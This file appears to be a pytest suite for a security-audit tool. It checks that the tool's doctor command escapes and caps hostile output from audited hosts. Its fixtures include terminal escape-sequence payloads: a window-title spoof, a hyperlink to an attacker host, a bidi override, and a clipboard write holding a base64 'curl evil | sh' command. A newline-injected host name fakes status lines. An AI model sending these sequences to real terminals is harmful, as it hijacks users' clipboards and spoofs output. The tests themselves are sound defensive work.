"""`audit doctor` prints what a target sent only after escaping it."""

from __future__ import annotations

import re

import pytest

from hardaudit.doctor import diagnose_output

SEQUENCES = {
    "OSC 0 window title": b"\x1b]0;you have been owned\x07",
    "OSC 8 hyperlink": b"\x1b]8;;https://evil.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "CSI 2J clear screen": b"\x1b[2J\x1b[H",
    "OSC 52 clipboard": b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "C1 CSI": "\x9b2J".encode(),
    "bidi override": "\u202e".encode(),
}


@pytest.mark.parametrize("name", SEQUENCES)
@pytest.mark.parametrize("field", ["uid", "tool", "cmd"])
def test_target_escape_sequences_never_reach_the_terminal(name: str, field: str) -> None:
    seq = SEQUENCES[name]
    stdout = {
        "uid": b"uid=1000 user=audit" + seq + b"\nsudo=yes\ntool=ss\n",
        "tool": b"uid=1000 user=audit\nsudo=yes\ntool=ss" + seq + b"\n",
        "cmd": b"uid=1000 user=audit\nsudo=yes\ncmd=no sshd -T" + seq + b"\ntool=ss\n",
    }[field]
    text = "\n".join(diagnose_output(stdout, become=True))
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), text
    assert "\\x1b" in text or "\\x9b" in text or "\\u202e" in text


def test_invalid_utf8_from_the_target_is_shown_replaced() -> None:
    lines = diagnose_output(b"uid=0 user=r\xffoot\ntool=ss\n", become=True)
    assert lines[0] == "  identity: uid=0 user=r\ufffdoot; privilege: root"


HOSTILE_ERROR = (
    "ansible_port: bad value\nweb2 (u@10.0.0.9:22): ready\n"
    "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\u202eydaer" + "x" * 20_000
)


def test_an_inventory_error_is_escaped_and_capped(capsys: pytest.CaptureFixture[str]) -> None:
    import argparse

    from hardaudit.doctor import run_doctor
    from hardaudit.inventory.model import Host

    host = Host(name="web1\nweb3 (x): ready", address="10.0.0.1", error=HOSTILE_ERROR)
    assert run_doctor([host], argparse.Namespace()) == 3
    out = capsys.readouterr().out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out), out
    assert [line for line in out.splitlines() if line.endswith("ready")] == []
    assert len(out.splitlines()) == 2  # the host line and its one BAD line
    assert len(out) < 1000
    assert "bytes more" in out


def test_a_flood_of_refused_commands_is_capped() -> None:
    stdout = (
        b"uid=1000 user=a\nsudo=yes\n"
        + b"cmd=no "
        + b"y" * 5000
        + b"\n" * 1
        + (b"cmd=no z\n" * 500)
    )
    lines = diagnose_output(stdout, become=True)
    assert len(lines) < 60
    assert max(len(line) for line in lines) < 400
